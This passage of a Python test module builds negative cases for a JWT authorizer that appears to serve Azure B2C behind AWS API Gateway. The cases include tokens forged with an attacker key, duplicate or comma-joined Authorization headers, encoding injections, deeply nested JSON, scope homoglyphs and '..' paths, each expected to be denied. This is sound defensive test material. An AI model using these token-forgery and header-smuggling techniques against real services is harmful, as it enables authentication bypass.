            token=_rs(world, b'\xef\xbb\xbf{"alg":"RS256","kid":"b2c-rsa-1"}', payload),
        ),
        Case(
            "payload-not-utf8",
            "encoding",
            "malformed_token",
            "payload bytes that are not UTF-8",
            token=_rs(
                world, _hdr(world), _raw_payload(world, '"name":"x"').encode()[:-2] + b'\xff"}'
            ),
        ),
        Case(
            "header-lone-surrogate-kid",
            "encoding",
            "malformed_token",
            "kid with an escaped lone surrogate: not Unicode, cannot be logged as UTF-8",
            token=_rs(world, '{"alg":"RS256","kid":"b2c-rsa-1\\ud800"}', payload),
        ),
        Case(
            "payload-lone-surrogate-iss",
            "encoding",
            "malformed_token",
            "iss with an escaped lone surrogate (would break the denial log line)",
            token=_rs(
                world, _hdr(world), _raw_payload(world, '"iss":"https://evil.example/\\udfff"')
            ),
        ),
        Case(
            "header-json-array",
            "encoding",
            "malformed_token",
            "header is a JSON array",
            token=_rs(world, '["RS256"]', payload),
        ),
        Case(
            "header-json-string",
            "encoding",
            "malformed_token",
            "header is a JSON string",
            token=_rs(world, '"RS256"', payload),
        ),
        Case(
            "header-json-null",
            "encoding",
            "malformed_token",
            "header is null",
            token=_rs(world, "null", payload),
        ),
        Case(
            "header-not-json",
            "encoding",
            "malformed_token",
            "header is not JSON at all",
            token=_rs(world, "alg=RS256", payload),
        ),
        Case(
            "header-deeply-nested",
            "encoding",
            "bad_signature",
            "5000 nested arrays in the header (as deep as 16 KiB allows): parsed in about a "
            "millisecond, then the attacker's signature fails",
            token=jws(
                '{"alg":"RS256","kid":"b2c-rsa-1","x":' + nested + "}",
                payload,
                world.attacker_rsa,
            ),
        ),
        Case(
            "payload-trailing-garbage",
            "encoding",
            "malformed_token",
            "JSON followed by garbage",
            token=_rs(world, _hdr(world), _raw_payload(world) + "x"),
        ),
        Case(
            "token-non-ascii",
            "encoding",
            "malformed_token",
            "non-ASCII characters in the compact form",
            token=f"{head}.{body}\u00e9.{signature}",
        ),
        Case(
            "token-nul-character",
            "encoding",
            "malformed_token",
            "a NUL inside the token",
            token=f"{head}.{body}\x00.{signature}",
        ),
        Case(
            "token-four-segments",
            "encoding",
            "malformed_token",
            "four segments",
            token=f"{valid}.{signature}",
        ),
        Case(
            "token-two-segments",
            "encoding",
            "malformed_token",
            "two segments",
            token=f"{head}.{body}",
        ),
        Case(
            "token-empty-header-segment",
            "encoding",
            "malformed_token",
            "empty header segment",
            token=f".{body}.{signature}",
        ),
    ]


def _nested(world: World) -> list[Case]:
    inner = world.token("b2c")
    return [
        Case(
            "nested-cty-jwt",
            "nested",
            "unsupported_header",
            "cty JWT with a valid inner token as the payload: we never unwrap",
            token=jws(_hdr(world, cty="JWT"), inner, world.attacker_rsa),
        ),
        Case(
            "nested-cty-jwt-lowercase",
            "nested",
            "unsupported_header",
            "cty 'jwt' (media types are case-insensitive)",
            token=_rs(world, _hdr(world, cty="jwt"), world.payload("b2c")),
        ),
        Case(
            "nested-payload-json-string",
            "nested",
            "malformed_token",
            "the payload is a JSON string holding a valid token",
            token=_rs(world, _hdr(world), _json(inner)),
        ),
        Case(
            "nested-payload-raw-jwt",
            "nested",
            "malformed_token",
            "the payload bytes are a raw JWT",
            token=_rs(world, _hdr(world), inner),
        ),
    ]


def _placement(world: World) -> list[Case]:
    valid = world.token("b2c")
    forged = jws(_hdr(world), world.payload("b2c", scp="admin"), world.attacker_rsa)

    def query_only(kind: Kind) -> dict[str, Any]:
        return make_event(kind, None, query={"access_token": [valid], "Authorization": [valid]})

    def cookie_only(kind: Kind) -> dict[str, Any]:
        return make_event(kind, None, cookies=[f"access_token={valid}", f"Authorization={valid}"])

    def two_headers_multi(kind: Kind) -> dict[str, Any]:
        value = f"Bearer {valid}"
        return make_event(kind, value, multi_headers={"Authorization": [value, f"Bearer {forged}"]})

    def case_variant_headers(kind: Kind) -> dict[str, Any]:
        return make_event(
            kind,
            None,
            headers={"Authorization": f"Bearer {valid}", "authorization": f"Bearer {forged}"},
            multi_headers={},
        )

    def identity_source_only(kind: Kind) -> dict[str, Any]:
        event = make_event(kind, None)
        event["identitySource"] = [f"Bearer {valid}"] if kind == "http-2.0" else f"Bearer {valid}"
        if kind == "http-1.0":
            event["authorizationToken"] = f"Bearer {valid}"
        return event

    return [
        Case(
            "valid-token-in-query-string",
            "placement",
            "missing_token",
            "a valid token in the query string when only the Authorization header is configured",
            event=query_only,
            kinds=REQUEST_KINDS,
            token=valid,
        ),
        Case(
            "valid-token-in-cookie",
            "placement",
            "missing_token",
            "a valid token in a cookie when only the header is configured",
            event=cookie_only,
            kinds=REQUEST_KINDS,
            token=valid,
        ),
        Case(
            "valid-token-in-identity-source-only",
            "placement",
            "missing_token",
            "identitySource/authorizationToken fields without the header they summarise",
            event=identity_source_only,
            kinds=("request", "http-1.0", "http-2.0"),
            token=valid,
        ),
        Case(
            "two-authorization-headers-multi-value",
            "placement",
            "malformed_token",
            "REST multiValueHeaders with two Authorization values (valid first, forged second)",
            event=two_headers_multi,
            kinds=("request", "http-1.0"),
            token=valid,
        ),
        Case(
            "authorization-and-lowercase-authorization",
            "placement",
            "malformed_token",
            "two header names differing only in case",
            event=case_variant_headers,
            kinds=("request", "http-1.0"),
            token=valid,
        ),
        Case(
            "comma-joined-two-bearer-tokens",
            "placement",
            "malformed_token",
            "HTTP API 2.0 joins repeated headers with a comma: valid, forged",
            authorization=f"Bearer {valid}, Bearer {forged}",
        ),
        Case(
            "comma-joined-same-token-twice",
            "placement",
            "malformed_token",
            "the same valid token twice, comma-joined",
            authorization=f"Bearer {valid},Bearer {valid}",
        ),
        Case(
            "comma-joined-no-space",
            "placement",
            "malformed_token",
            "two tokens glued with a comma inside one bearer value",
            authorization=f"Bearer {valid},{forged}",
        ),
        Case(
            "bare-token-without-scheme",
            "placement",
            "malformed_token",
            "no Bearer scheme (allow_bare_token is off)",
            authorization=valid,
        ),
        Case(
            "basic-scheme",
            "placement",
            "malformed_token",
            "HTTP Basic credentials",
            authorization="Basic dXNlcjpwYXNzd29yZA==",
        ),
        Case(
            "bearer-nbsp-separator",
            "placement",
            "malformed_token",
            "a no-break space between scheme and token",
            authorization=f"Bearer\u00a0{valid}",
        ),
        Case(
            "bearer-two-words",
            "placement",
            "malformed_token",
            "a credential with a space inside",
            authorization=f"Bearer {valid} extra",
        ),
        Case(
            "bearer-without-token",
            "placement",
            "malformed_token",
            "the scheme alone",
            authorization="Bearer ",
        ),
        Case(
            "authorization-empty",
            "placement",
            "missing_token",
            "an empty Authorization value",
            authorization="",
        ),
        Case(
            "authorization-whitespace",
            "placement",
            "missing_token",
            "whitespace only",
            authorization=" \t ",
        ),
    ]


def _event(world: World) -> list[Case]:
    valid = world.token("b2c")

    def foreign_arn(kind: Kind) -> dict[str, Any]:
        event = make_event(kind, f"Bearer {valid}")
        event["routeArn" if kind == "http-2.0" else "methodArn"] = "arn:aws:s3:::bucket/key"
        return event

    def no_arn(kind: Kind) -> dict[str, Any]:
        event = make_event(kind, f"Bearer {valid}")
        event.pop("routeArn" if kind == "http-2.0" else "methodArn")
        return event

    def unknown_type(kind: Kind) -> dict[str, Any]:
        event = make_event(kind, f"Bearer {valid}")
        event.pop("version", None)
        event["type"] = "token"
        return event

    def token_not_string(kind: Kind) -> dict[str, Any]:
        event = make_event(kind, None)
        event["authorizationToken"] = [f"Bearer {valid}"]
        return event

    return [
        Case(
            "event-foreign-arn",
            "event",
            "malformed_request",
            "a valid token with a method ARN of another service",
            event=foreign_arn,
            token=valid,
        ),
        Case(
            "event-missing-arn",
            "event",
            "malformed_request",
            "no method/route ARN at all",
            event=no_arn,
            token=valid,
        ),
        Case(
            "event-unknown-type",
            "event",
            "malformed_request",
            "type 'token' (lower case) and no version",
            event=unknown_type,
            token=valid,
        ),
        Case(
            "event-token-not-a-string",
            "event",
            "missing_token",
            "authorizationToken is a list",
            event=token_not_string,
            kinds=("token",),
            token=valid,
        ),
    ]


def _route(world: World) -> list[Case]:
    """Valid tokens the route rules must refuse (403), including scope look-alikes."""
    admin = Route("POST", "/admin")
    return [
        Case(
            "route-valid-token-lacks-scope",
            "route",
            "insufficient_scope",
            "a valid token without the admin scope calling POST /admin",
            token=world.token("b2c"),
            route=admin,
            status=403,
        ),
        Case(
            "route-scope-in-unconfigured-claim",
            "route",
            "insufficient_scope",
            "admin in 'scope' and 'roles', but B2C permissions live in scp only",
            token=world.token("b2c", scope="admin", roles=["admin"]),
            route=admin,
            status=403,
        ),
        Case(
            "route-scope-case-variant",
            "route",
            "insufficient_scope",
            "scp 'Admin': scopes compare exactly",
            token=world.token("b2c", scp="app.read Admin"),
            route=admin,
            status=403,
        ),
        Case(
            "route-scope-comma-joined",
            "route",
            "insufficient_scope",
            "scp 'app.read,admin' is one scope, not two",
            token=world.token("b2c", scp="app.read,admin"),
            route=admin,
            status=403,
        ),
        Case(
            "route-scope-superstring",
            "route",
            "insufficient_scope",
            "scp 'administrator' does not contain the scope 'admin'",
            token=world.token("b2c", scp="administrator"),
            route=admin,
            status=403,
        ),
        Case(
            "route-scope-homoglyph",
            "route",
            "insufficient_scope",
            "scp with a Cyrillic a (U+0430) in admin",
            token=world.token("b2c", scp="\u0430dmin"),
            route=admin,
            status=403,
        ),
        Case(
            "route-unknown-route",
            "route",
            "route_not_permitted",
            "a valid token calling a route no rule names (unmatched routes are denied)",
            token=world.token("b2c"),
            route=Route("DELETE", "/orders"),
            status=403,
        ),
        Case(
            "route-dot-dot-path",
            "route",
            "route_not_permitted",
            "a concrete path with '..' segments is not normalised into /admin or /orders",
            token=world.token("b2c"),
            route=Route("GET", "/orders/../admin", template="/{proxy+}"),
            status=403,
        ),
    ]


_BUILDERS: Final = (
    _alg,
    _hmac,
    _confusion,
    _kid,
    _embedded_key,
    _jwe,
    _crit,
    _duplicates,
    _time,
    _issuer,
    _audience,
    _entra,
    _signature,
    _size,
    _encoding,
    _nested,
    _placement,
    _event,
    _route,
)


def build_corpus(world: World) -> tuple[Case, ...]:
    cases = tuple(case for builder in _BUILDERS for case in builder(world))
    names = [case.name for case in cases]
    duplicates = {name for name in names if names.count(name) > 1}
    assert not duplicates, f"corpus names must be unique: {sorted(duplicates)}"
    return cases


@cache
def corpus() -> tuple[Case, ...]:
    """The corpus for this session's world (built once; tokens expire in an hour)."""
    return build_corpus(world())
